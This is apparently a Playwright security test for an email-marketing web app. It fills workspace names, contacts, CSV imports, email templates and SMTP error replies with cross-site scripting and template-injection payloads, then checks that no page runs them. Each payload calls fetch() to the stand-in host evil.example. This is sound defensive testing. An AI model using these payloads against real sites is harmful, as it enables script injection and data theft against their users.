/** What strangers and colleagues write, shown by every page there is: none of it runs, asks, or calls anywhere. */
import type { Page } from '@playwright/test'
import { API_KEY, apiOf } from '../../scripts/product.mjs'
import { startSink } from '../support/smtp-sink.ts'
import { setUp } from './support/people.ts'
import { expect, test } from './support/product.ts'
import { words } from './support/words.ts'

test.use({ env: { PERENNIAL_API_KEY: API_KEY } })

const EVIL = 'evil.example'
/** Each would set the flag, ask something, or call home, if anybody took it for more than a text. */
const BITE = `window.__bitten=1;alert(1);fetch('https://${EVIL}/fetched')`
const PAYLOADS = [
  `"><script>${BITE}</script>`,
  `<img src=x onerror="${BITE}">`,
  `<svg onload="${BITE}">`,
  `'-${BITE}-'`,
  `</textarea></title></style><iframe srcdoc="<script>top.${BITE}</script>"></iframe>`,
  `{{constructor.constructor("${BITE.replaceAll('"', "'")}")()}}`,
] as const
const WHOLE = PAYLOADS.join(' ')
const LINK = `javascript:${BITE}`
const mjml = `<mjml><mj-head><mj-raw><script>${BITE}</script></mj-raw></mj-head><mj-body><mj-section><mj-column>
<mj-text><script>${BITE}</script><img src="x" onerror="${BITE}"><svg onload="${BITE}"></svg><form action="https://${EVIL}/form"><button>x</button></form>
<iframe srcdoc="&lt;script&gt;top.${BITE}&lt;/script&gt;"></iframe><meta http-equiv="refresh" content="0;url=https://${EVIL}/refreshed"><base href="https://${EVIL}/">
Hello {{ contact.first_name | default: "you" }} <a href="https://shop.example/">shop</a></mj-text>
<mj-text>{{ sender.postal_address }} <a href="{{ unsubscribe_url }}">out</a></mj-text></mj-column></mj-section></mj-body></mjml>`

/** A letter that may leave: nothing in it but what the person and the sender are called. */
const LETTER = `<mjml><mj-body><mj-section><mj-column><mj-text>Hello {{ contact.first_name }} {{ contact.last_name }},
<a href="https://shop.example/">shop</a></mj-text><mj-text>{{ sender.name }}, {{ sender.postal_address }}
<a href="{{ unsubscribe_url }}">out</a></mj-text></mj-column></mj-section></mj-body></mjml>`

type Watch = { dialogs: string[]; foreign: string[] }

async function watch(page: Page, home: string): Promise<Watch> {
  const seen: Watch = { dialogs: [], foreign: [] }
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const url = request.url()
    if (/^https?:/.test(url) && !url.startsWith(home)) seen.foreign.push(url)
  })
  await page.route(`https://${EVIL}/**`, (route) => route.abort())
  return seen
}

async function expectUnbitten(page: Page, { dialogs, foreign }: Watch, where: string): Promise<void> {
  for (const frame of page.frames()) {
    const isBitten = await frame.evaluate(() => '__bitten' in window).catch(() => false) // a frame without script cannot be asked
    expect(isBitten, `${where}, in ${frame.url()}`).toBe(false)
  }
  expect({ dialogs, foreign }, where).toEqual({ dialogs: [], foreign: [] })
}

const shown = async (page: Page, url: string) => {
  await page.goto(url)
  await page.waitForTimeout(900) // scripts that run would have run; a page with a stream of numbers never rests
}

test('nothing that anybody writes is run by a page of the product', async ({ page, product }) => {
  test.setTimeout(240_000) // takes well under a minute; a busy machine is not a failure
  await setUp(page)
  const seen = await watch(page, product.url)
  const api = apiOf(product.url)
  const { id } = await poisoned(api)
  const pages = [
    '/workflows',
    `/workflows/${id}`,
    '/contacts',
    '/contacts/1',
    '/contacts/import',
    '/messages',
    '/inbox',
    '/inbox/1',
    '/settings',
    '/settings/sending',
    '/settings/keys',
    '/settings/workspace',
    '/settings/profile',
    `/contacts?q=${encodeURIComponent(WHOLE)}`,
    `/${encodeURIComponent(WHOLE)}`,
    `/workflows/${encodeURIComponent(LINK)}`,
  ]
  for (const url of pages)
    await test.step(url.slice(0, 60), async () => {
      await shown(page, url)
      await expectUnbitten(page, seen, url)
    })
  await test.step('the mail itself, as a page of its own and in its frame', async () => {
    const { items } = (await api('GET', '/api/v1/inbox')) as { items: { id: string }[] }
    expect(items.length).toBeGreaterThan(0)
    for (const { id: mail } of items.slice(0, 2)) {
      await shown(page, `/api/v1/inbox/${mail}/html`)
      await expectUnbitten(page, seen, 'the HTML of a mail')
      await shown(page, `/inbox/${mail}`)
      await expectUnbitten(page, seen, 'a mail in the inbox')
    }
  })
  await test.step('a preview', async () => {
    const made = await page.request.post('/api/v1/preview', {
      headers: { origin: product.url },
      data: { email: { subject: WHOLE, preheader: WHOLE, mjml }, contactId: '1' },
    })
    const { url } = (await made.json()) as { url: string }
    await shown(page, url)
    await expectUnbitten(page, seen, 'a preview')
  })
  await test.step('a file with columns and a name like that', async () => {
    await page.goto('/contacts/import')
    const buffer = Buffer.from(
      `"${PAYLOADS[1].replaceAll('"', '""')}",email\n"${PAYLOADS[0].replaceAll('"', '""')}",c@example.com\n`,
    )
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: `${PAYLOADS[1].replaceAll('/', '')}.csv`, mimeType: 'text/csv', buffer })
    await page.waitForTimeout(1_000)
    await expectUnbitten(page, seen, 'a file to import')
  })
})

test('what a mail server says stays a text on the page of its account, kept or just asked for', async ({
  page,
  product,
}) => {
  const sink = await startSink({ auth: { user: 'a', pass: 'b' }, onAuth: () => `535 5.7.8 ${WHOLE}` })
  await setUp(page, { kind: 'smtp', port: sink.port, username: 'news', password: 'not the right one' })
  const seen = await watch(page, product.url)
  const api = apiOf(product.url)
  const step = { id: 'hello', kind: 'send-email', email: 'hello', next: null }
  const { id } = await api('POST', '/api/v1/workflows', {
    format: 'perennial.workflow/1',
    name: 'Letter',
    triggers: [{ id: 't1', kind: 'manual' }],
    start: 'hello',
    steps: [step],
    emails: { hello: { subject: 'Hello', preheader: '', mjml: LETTER.replaceAll(/\{\{ contact[^}]*\}\}/g, 'you') } },
  })
  await api('POST', `/api/v1/workflows/${id}/emails/hello/test`, { to: ['b@example.com'] })
  const account = async () =>
    (await api('GET', '/api/v1/sending-accounts')).items.find((one: { kind: string }) => one.kind === 'smtp')
  const messages = async () => JSON.stringify((await api('GET', '/api/v1/messages?limit=1')).counts)
  await expect
    .poll(async () => `${(await account()).status} ${await messages()}`, { timeout: 60_000 })
    .toMatch(/^paused/)
  expect((await account()).trouble.response).toContain(PAYLOADS[1])
  await shown(page, '/settings/sending')
  await expect(page.getByText(PAYLOADS[1]).first()).toBeVisible()
  await expectUnbitten(page, seen, 'what the server said')
  await page.getByRole('button', { name: words('account.test.action'), exact: true }).click()
  await page.getByText(words('sending:test.all')).click()
  await expect(page.locator('pre').getByText(PAYLOADS[1])).toBeVisible()
  await expectUnbitten(page, seen, 'a test of the connection')
  await sink.close()
})

/** One of everything, each text a payload. */
async function poisoned(api: ReturnType<typeof apiOf>): Promise<{ id: string }> {
  await api('PATCH', '/api/v1/workspace', { name: WHOLE.slice(0, 90), senderName: PAYLOADS[1] })
  await api('POST', '/api/v1/api-keys', { name: WHOLE.slice(0, 90), scopes: ['contacts:read'] })
  const step = { id: 'hello', kind: 'send-email', title: WHOLE.slice(0, 190), email: 'hello', next: null }
  const { id } = await api('POST', '/api/v1/workflows', {
    format: 'perennial.workflow/1',
    name: WHOLE.slice(0, 190),
    triggers: [
      { id: 't1', kind: 'manual' },
      { id: 't2', kind: 'event', event: PAYLOADS[1], where: null },
    ],
    start: 'hello',
    steps: [step],
    emails: { hello: { subject: WHOLE, preheader: WHOLE, mjml } },
    notes: [{ id: 'n', text: WHOLE, x: 300, y: 300 }],
  })
  const contact = {
    email: 'a@example.com',
    externalId: PAYLOADS[1],
    tags: PAYLOADS.map((payload) => payload.slice(0, 90)),
    attributes: { first_name: PAYLOADS[1], last_name: PAYLOADS[0], [PAYLOADS[2]]: WHOLE, link: LINK },
    consent: { marketing: { status: 'granted', source: PAYLOADS[1], text: WHOLE } },
  }
  await api('PUT', '/api/v1/contacts', contact)
  await api('POST', '/api/v1/events', {
    name: PAYLOADS[1],
    contact: { email: 'a@example.com' },
    properties: { [PAYLOADS[0]]: WHOLE, url: LINK },
  })
  await api(
    'POST',
    '/api/v1/contacts/import?consent=unknown&fileName=%3Cimg%20src%3Dx%20onerror%3D%22window.__bitten%3D1%22%3E.csv',
    `email,"<img src=x onerror=""${BITE}"">"\nb@example.com,<svg onload=alert(1)>\n"<script>${BITE.replaceAll('"', '')}</script>",x\n`,
  )
  const published = await api('POST', `/api/v1/workflows/${id}/publish`, {}).catch((error: unknown) => error)
  expect(String(published), 'the workflow is live, or refused for its scripts').toMatch(/object Object|422/)
  await api('POST', `/api/v1/workflows/${id}/emails/hello/test`, { to: ['b@example.com'] }).catch((error: unknown) =>
    expect(String(error)).toMatch(/422/),
  )
  await api('POST', `/api/v1/workflows/${id}/enrollments`, { contact: { email: 'a@example.com' } }).catch(
    (error: unknown) => expect(String(error)).toMatch(/422|409/),
  )
  await sendLetter(api)
  // Last: from then on mail goes to this server, which nobody runs.
  await api('POST', '/api/v1/sending-accounts', {
    kind: 'smtp',
    name: PAYLOADS[1].slice(0, 90),
    host: '127.0.0.1',
    port: 1,
    security: 'none',
    username: WHOLE.slice(0, 200),
  })
  return { id }
}

/** A harmless letter about a person whose name is not. */
async function sendLetter(api: ReturnType<typeof apiOf>): Promise<void> {
  const { id } = await api('POST', '/api/v1/workflows', {
    format: 'perennial.workflow/1',
    name: PAYLOADS[1],
    triggers: [{ id: 't', kind: 'manual' }],
    start: 'letter',
    steps: [{ id: 'letter', kind: 'send-email', title: PAYLOADS[0], email: 'letter', next: null }],
    emails: { letter: { subject: 'For {{ contact.first_name }}', preheader: '{{ contact.last_name }}', mjml: LETTER } },
  })
  await api('POST', `/api/v1/workflows/${id}/publish`, {})
  await api('POST', `/api/v1/workflows/${id}/enrollments`, { contact: { email: 'a@example.com' } })
  await expect.poll(async () => (await api('GET', '/api/v1/inbox')).total, { timeout: 30_000 }).toBeGreaterThan(0)
}
